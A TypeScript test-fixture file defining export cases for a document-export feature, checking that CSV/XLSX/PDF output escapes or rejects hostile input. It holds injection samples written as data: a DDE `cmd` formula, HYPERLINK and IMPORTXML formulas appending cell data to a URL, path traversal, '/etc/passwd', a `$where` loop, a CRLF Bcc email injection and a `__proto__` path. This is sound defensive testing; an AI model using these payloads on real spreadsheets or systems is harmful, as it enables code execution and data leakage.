/** Documents and wishes that nobody should export, and what must become of each: generated, nothing taken from anywhere. */
import type { NewDocument } from '../../runtime/documents.ts';

export interface ExportCase {
  readonly name: string;
  /** Over `{collection: 'people', columns: [{field: 'note'}], format: 'csv'}`. */
  readonly payload?: Readonly<Record<string, unknown>>;
  readonly documents?: readonly NewDocument[];
  /** The code of the dead letter, or the notes that stand in the file. */
  readonly ends: 'BAD_SOURCE' | 'DOCUMENT_REFUSED' | 'LIMIT_EXCEEDED' | 'PAYLOAD_INVALID' | readonly (string | null)[];
}

const note = (value: unknown): readonly NewDocument[] => [{ _id: 'a', note: value }];
const many = (count: number): readonly NewDocument[] =>
  Array.from({ length: count }, (_, n) => ({ _id: `n${String(n).padStart(7, '0')}`, note: 'x' }));
const column = (more: object): Readonly<Record<string, unknown>> => ({ columns: [{ field: 'note', ...more }] });

/** Cells that a spreadsheet would run, and what stands there instead. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://example.com?"&A1)',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://example.com","//a")',
  ' =1+1',
  '\n=1',
  '\t=1',
  '\r=1',
  '\tplain',
  '\r\n',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u3000＝1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
];

/** Cells that look like trouble and are none. */
const plain = [
  '-5.2',
  '+91',
  '1e5',
  'a=1',
  "'=1",
  '"',
  '""',
  'a"b',
  ',',
  ';',
  'a\r\nb\nc',
  '12345678901234567890',
  '00042',
  'नमस्ते ₹',
  '\u202eright to left',
  'x'.repeat(33_000),
];

const refusedPayloads: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
  ['a collection with a path in its name', { collection: '../people' }],
  ['a collection with a slash', { collection: 'a/b' }],
  ['a collection of nothing', { collection: '' }],
  ['an unknown format', { format: 'exe' }],
  ['no column', { columns: [] }],
  [
    'two columns of one header',
    {
      columns: [
        { field: 'a', header: 'x' },
        { field: 'b', header: 'x' },
      ],
    },
  ],
  ['201 columns', { columns: Array.from({ length: 201 }, (_, n) => ({ field: `f${n}` })) }],
  ['a column without a field', { columns: [{ field: '' }] }],
  ['an operator in the filter', { filter: { note: { $gt: '' } } }],
  ['code in the filter', { filter: { note: { $where: 'while(1){}' } } }],
  ['a list of 101 in the filter', { filter: { note: { in: Array.from({ length: 101 }, (_, n) => n) } } }],
  ['a mail to two', { notify: { email: 'a@example.com, b@example.com' } }],
  ['a mail with a line break', { notify: { email: 'a@example.com\r\nBcc: b@example.com' } }],
  ['a field nobody knows', { path: '/etc/passwd' }],
];

const wrongValues: readonly (readonly [string, unknown, string])[] = [
  ['text where a number is declared', 'five', 'number'],
  ['a number where a boolean is declared', 0, 'boolean'],
  ['a day where an instant is declared', '2026-11-21', 'date'],
  ['an instant without a zone', '2026-11-21T10:00:00', 'date'],
  ['a month that is none', '2026-13-41T10:00:00Z', 'date'],
  ['an object where text is declared', { a: 1 }, 'text'],
  ['a list where text is declared', ['a'], 'text'],
];

export const exportCases: readonly ExportCase[] = [
  ...formulas.map(
    (text): ExportCase => ({
      name: `the formula ${JSON.stringify(text)}`,
      documents: note(text),
      ends: [`'${text}`],
    }),
  ),
  ...plain.map(
    (text): ExportCase => ({
      name: `the text ${JSON.stringify(text.slice(0, 30))}`,
      documents: note(text),
      ends: [text],
    }),
  ),
  ...refusedPayloads.map(([name, payload]): ExportCase => ({ name, payload, ends: 'PAYLOAD_INVALID' })),
  ...wrongValues.map(
    ([name, value, type]): ExportCase => ({
      name,
      documents: note(value),
      payload: column({ type }),
      ends: 'BAD_SOURCE',
    }),
  ),
  { name: 'a header that is a formula', documents: note('x'), payload: column({ header: '=1+1' }), ends: ['x'] },
  {
    name: 'a path into a prototype',
    payload: { columns: [{ field: '__proto__.x', header: 'note' }] },
    ends: 'DOCUMENT_REFUSED',
  },
  {
    name: 'a path of 200 dots',
    payload: { columns: [{ field: 'a.'.repeat(200), header: 'note' }] },
    ends: 'DOCUMENT_REFUSED',
  },
  { name: 'a collection nobody declares', payload: { collection: 'strangers' }, ends: 'DOCUMENT_REFUSED' },
  {
    name: 'a cell too long for XLSX',
    payload: { format: 'xlsx' },
    documents: note('x'.repeat(32_768)),
    ends: 'LIMIT_EXCEEDED',
  },
  { name: 'a row too many for a PDF', payload: { format: 'pdf' }, documents: many(5_001), ends: 'LIMIT_EXCEEDED' },
  {
    name: 'a cell longer than a page of a PDF',
    payload: { format: 'pdf' },
    documents: note('word '.repeat(20_000)),
    ends: 'LIMIT_EXCEEDED',
  },
  { name: 'a character no font of ours has', payload: { format: 'pdf' }, documents: note('🙂'), ends: 'BAD_SOURCE' },
  {
    name: '21 columns of a PDF',
    payload: { format: 'pdf', columns: Array.from({ length: 21 }, (_, n) => ({ field: `f${n}` })) },
    ends: 'LIMIT_EXCEEDED',
  },
  { name: 'nothing', documents: [], ends: [] },
];
